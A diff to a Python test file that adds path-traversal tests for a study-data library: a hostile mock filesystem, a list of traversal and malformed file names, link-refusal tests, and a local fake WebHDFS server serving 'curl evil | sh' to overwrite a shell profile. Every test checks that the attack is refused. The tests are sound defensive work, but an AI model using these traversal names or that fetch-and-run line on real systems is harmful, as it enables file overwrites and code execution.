@@ -1,12 +1,17 @@
 """Studies and recordings elsewhere are read as if they were here, and released to elsewhere."""
 
+import http.server
 import json
 import shutil
+import threading
 from pathlib import Path
+from typing import ClassVar
+from urllib.parse import parse_qs
 
 import fsspec
 import polars as pl
 import pytest
+from fsspec import AbstractFileSystem
 
 import eyelid
 from eyelid.engine.remote import RemotePlace, upload
@@ -16,7 +21,7 @@ from eyelid.gaze.simulator import simulate
 from eyelid.io import read, write
 from eyelid.io.parts import input_key, write_manifest, write_part
 from eyelid.io.pieces import in_pieces, reordered
-from eyelid.io.remote import all_here, here
+from eyelid.io.remote import _copies, all_here, here
 from eyelid.io.study_folder import recognises
 from eyelid.privacy.ledger import Ledger
 from eyelid.releases.spending import budget
@@ -59,9 +64,18 @@ def write_in_parts(study, folder):
         write_manifest(run, cut.head, parts, folder)
 
 
+@pytest.fixture
+def far_files(monkeypatch):
+    """Files of this machine that are taken for some elsewhere, which processes see, too."""
+    for module in ("remote", "study_folder", "same_people"):
+        monkeypatch.setattr(f"eyelid.io.{module}.on_this_machine", Path)
+
+
 @pytest.fixture(params=["memory", "file"])
 def elsewhere(request, home, tmp_path):
     """The same study elsewhere, without its ledger."""
+    if request.param == "file":
+        request.getfixturevalue("far_files")
     base = f"memory://{tmp_path.name}" if request.param == "memory" else f"file://{tmp_path}/far"
     upload(home, RemotePlace(f"{base}/study"), "run")
     return f"{base}/study"
@@ -170,10 +184,157 @@ def test_what_is_not_there_or_not_all_there_is_refused(elsewhere):
         read(f"{elsewhere}-half")
 
 
-def test_a_file_with_a_way_out_of_its_folder_is_refused(elsewhere, monkeypatch):
-    monkeypatch.setattr(RemotePlace, "names", lambda place: ["study.json", "../../stolen"])
-    with pytest.raises(InputError, match="belongs nowhere"):
-        all_here(elsewhere)
+class Hostile(AbstractFileSystem):
+    """A server that names files as it likes, and has the same content in each."""
+
+    protocol = "hostile"
+    cachable = False
+    listed = ("study.json",)
+    about: ClassVar[dict[str, object]] = {}
+
+    def ls(self, path, detail=True, **_):
+        root = path.rstrip("/")
+        found = [
+            {"name": name if name.startswith("!") else f"{root}/{name}", "type": "file", "size": 3}
+            | self.about
+            for name in self.listed
+        ]
+        return found if detail else [each["name"] for each in found]
+
+    def info(self, path, **_):
+        kind = "directory" if path == "study" else "file"
+        return {"name": path, "type": kind, "size": 3}
+
+    def isfile(self, path):
+        return path != "study" and not path.endswith((".unfinished", "study.json"))
+
+    def exists(self, path, **_):
+        return True
+
+    def ukey(self, path):
+        return path
+
+    def get_file(self, rpath, lpath, **_):
+        Path(lpath).write_text("pwn")
+
+
+@pytest.fixture
+def hostile(monkeypatch):
+    fsspec.register_implementation("hostile", Hostile, clobber=True)
+
+    def lists(*names, **about):
+        monkeypatch.setattr(Hostile, "listed", names)
+        monkeypatch.setattr(Hostile, "about", about)
+        return "hostile://study"
+
+    return lists
+
+
+def strange_names(outside):
+    return [
+        str(outside),
+        f"/{outside}",
+        f"../../../../../../../../../..{outside}",
+        f"a/../../..{outside}",
+        f"..\\..\\{outside.name}",
+        f"C:\\{outside.name}",
+        "C:evil",
+        "a/C:evil",
+        "\\\\server\\share",
+        "!elsewhere",
+        "a//b",
+        "./a",
+        "",
+        f"a::file://{outside}",
+        "a\x1b[2J",
+        "a\nb",
+        "a\0b",
+    ]
+
+
+@pytest.mark.parametrize("number", range(17))
+def test_a_listing_with_a_name_outside_of_its_folder_writes_nothing(number, hostile, tmp_path):
+    outside = tmp_path / ".profile"
+    name = strange_names(outside)[number]
+    for names in ((name,), ("people.csv", name)):
+        for look in (here, all_here, read):
+            with pytest.raises(InputError, match="belongs nowhere"):
+                look(hostile(*names))
+    assert not outside.exists()
+
+
+@pytest.mark.parametrize("about", [{"islink": True}, {"type": "link"}, {"type": "symlink"}])
+def test_a_listing_with_a_link_is_refused(hostile, about):
+    with pytest.raises(InputError, match=r"a link: people\.csv"):
+        all_here(hostile("people.csv", **about))
+
+
+def test_a_link_in_the_place_of_a_copy_is_not_written_through(hostile, tmp_path):
+    (tmp_path / "home").mkdir()
+    (tmp_path / "home" / "sub").symlink_to(tmp_path)
+    (tmp_path / "home" / "file").symlink_to(tmp_path / ".profile")
+    place = RemotePlace(hostile("file"))
+    for name in ("sub/.profile", "file"):
+        with pytest.raises(InputError, match="belongs nowhere"):
+            place.fetch_into(tmp_path / "home", name)
+    assert not (tmp_path / ".profile").exists()
+    assert place.fetch_into(tmp_path / "home", "a/b").read_text() == "pwn"
+
+
+def test_a_study_elsewhere_names_no_part_outside_of_it(elsewhere, tmp_path):
+    about = RemotePlace(elsewhere) / "study.json"
+    plain = json.loads(about.read())
+    for name in set(strange_names(tmp_path / "x")) - {"!elsewhere"}:
+        parts = [plain["parts"][0] | {"file": f"data.parquet/{name}"}, *plain["parts"][1:]]
+        about.write(json.dumps(plain | {"parts": parts}).encode())
+        _copies.clear()
+        with pytest.raises(InputError, match=r"is no part of data\.parquet"):
+            read(elsewhere)
+
+
+class WebHdfs(http.server.BaseHTTPRequestHandler):
+    """The exploit: a server that says that it has a file by the name of somebody's profile."""
+
+    suffix = ""
+
+    def do_GET(self):
+        place, _, query = self.path.partition("?")
+        op = parse_qs(query)["op"][0]
+        name = place.rpartition("/")[2]
+        if op == "OPEN":
+            return self.answer(b"curl evil | sh")
+        status = {"pathSuffix": "", "type": "DIRECTORY" if name == "study" else "FILE"}
+        status |= {"length": 14, "modificationTime": 0}
+        if op == "LISTSTATUS":
+            files = [status | {"pathSuffix": self.suffix, "type": "FILE"}]
+            return self.answer(json.dumps({"FileStatuses": {"FileStatus": files}}).encode())
+        if name in ("study.json", ".unfinished"):
+            return self.send_error(404)
+        return self.answer(json.dumps({"FileStatus": status}).encode())
+
+    def answer(self, content):
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+    def log_message(self, *_):
+        pass
+
+
+def test_a_webhdfs_server_overwrites_no_shell_profile(tmp_path, monkeypatch):
+    pytest.importorskip("requests")
+    profile = tmp_path / ".profile"
+    profile.write_text("mine")
+    monkeypatch.setattr(WebHdfs, "suffix", str(profile))
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), WebHdfs) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            with pytest.raises(InputError, match="belongs nowhere"):
+                eyelid.lint(f"webhdfs://127.0.0.1:{server.server_port}/study")
+        finally:
+            server.shutdown()
+    assert profile.read_text() == "mine"
 
 
 def test_a_release_elsewhere_has_the_files_of_one_here(elsewhere, home, tmp_path):
@@ -190,6 +351,7 @@ def test_a_release_elsewhere_has_the_files_of_one_here(elsewhere, home, tmp_path
     assert not list(Path.cwd().iterdir())
 
 
+@pytest.mark.usefixtures("far_files")
 def test_two_processes_read_and_release_elsewhere(home, tmp_path, two_processes):
     place = RemotePlace(f"file://{tmp_path}/far/study")
     upload(home, place, "run")
